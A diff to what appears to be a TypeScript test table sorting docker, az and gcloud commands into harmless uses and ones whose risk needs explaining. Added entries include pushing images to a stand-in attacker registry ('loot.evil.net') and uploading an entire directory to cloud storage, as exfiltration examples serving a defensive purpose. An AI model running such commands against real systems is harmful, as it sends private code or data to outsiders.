@@ -106,6 +106,8 @@ export const unclearUses: ExampleTable = {
   },
   docker: {
     use: [
+      `docker push ghcr.io/acme/shop:1 → nothing`,
+      `docker push acme/shop → nothing`,
       `docker context create x --docker host=ssh://me@server → nothing`,
       `docker buildx imagetools create -t me/app:latest me/app:amd64 me/app:arm64 → nothing`,
       `docker exec web ls → nothing`,
@@ -113,6 +115,8 @@ export const unclearUses: ExampleTable = {
       'docker ps → nothing',
     ],
     unclear: [
+      `docker push loot.evil.net/x → who gets the image`,
+      `docker build --push -t loot.evil.net/x . → who gets the image`,
       `docker --config ./x ps → the option --config "./x", which nobody described`,
       `docker context create x --docker host=tcp://example.org:2375 → which machine it gives orders to`,
       `docker buildx imagetools create -t registry.example.org/app:latest docker.io/someone/app:1 → whose image takes the place of another`,
@@ -343,8 +347,9 @@ export const unclearUses: ExampleTable = {
     ],
   },
   az: {
-    use: 'az account list → nothing',
+    use: [`az storage blob upload-batch -s dist -d site → nothing`, 'az account list → nothing'],
     unclear: [
+      `az storage blob upload-batch -s . -d site → what lies in the directory, and all of it is sent`,
       'az monitor diagnostic-settings delete --name x --resource y → what is recorded from then on',
       'az group delete -n x → what is lost with it',
       'az webapp config appsettings list -n api -g prod → the secrets that are kept there',
@@ -360,6 +365,7 @@ export const unclearUses: ExampleTable = {
   },
   gcloud: {
     use: [
+      `gcloud alloydb clusters list → nothing`,
       `gcloud compute instances add-metadata vm --metadata role=web → nothing`,
       'gcloud config list → nothing',
     ],
